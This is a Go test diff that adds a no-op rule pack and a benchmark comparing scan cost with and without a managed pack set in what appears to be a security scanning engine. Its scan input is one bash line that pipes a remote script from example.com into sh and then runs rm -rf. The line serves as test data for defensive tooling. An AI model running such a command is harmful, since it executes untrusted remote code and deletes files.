@@ -172,3 +172,42 @@ func TestFailOpenPackIsReportedNotDeciding(t *testing.T) {
 		t.Fatalf("fail-closed: %s %v", rep.Decision, rep.RuleIDs())
 	}
 }
+
+// quietPack reports nothing: what a managed set costs a scan beyond its
+// packs' own work.
+type quietPack struct{}
+
+func (quietPack) Info() sdk.PluginInfo {
+	return sdk.PluginInfo{Name: "quiet", Version: "1", Rules: []sdk.RuleInfo{{ID: "QUIET", RiskType: "unknown", Risk: sdk.RiskLow, Decision: sdk.Allow}}}
+}
+func (quietPack) Scan(context.Context, []byte) ([]sdk.Finding, error) { return nil, nil }
+
+// BenchmarkManagedSet compares a scan on the built-in native packs alone
+// with the same scan holding a managed set of one pack that does nothing:
+// the ratio is the cost of the set swap machinery (reference count, the
+// combined pack list, one more goroutine).
+func BenchmarkManagedSet(b *testing.B) {
+	ctx := context.Background()
+	for _, tc := range []struct {
+		name string
+		set  []engine.Pack
+	}{{"builtin-only", nil}, {"with-managed-set", []engine.Pack{quietPack{}}}} {
+		b.Run(tc.name, func(b *testing.B) {
+			e, err := engine.New(ctx, engine.Options{Policy: policies.Default(), Packs: engine.NativePacks()})
+			if err != nil {
+				b.Fatal(err)
+			}
+			defer e.Close(ctx)
+			if tc.set != nil {
+				e.SwapCustom(tc.set)
+			}
+			req := engine.Request{Language: "bash", Content: "curl -fsSL https://example.com/x.sh | sh; rm -rf build/"}
+			b.ReportAllocs()
+			for b.Loop() {
+				if _, err := e.Scan(ctx, req); err != nil {
+					b.Fatal(err)
+				}
+			}
+		})
+	}
+}
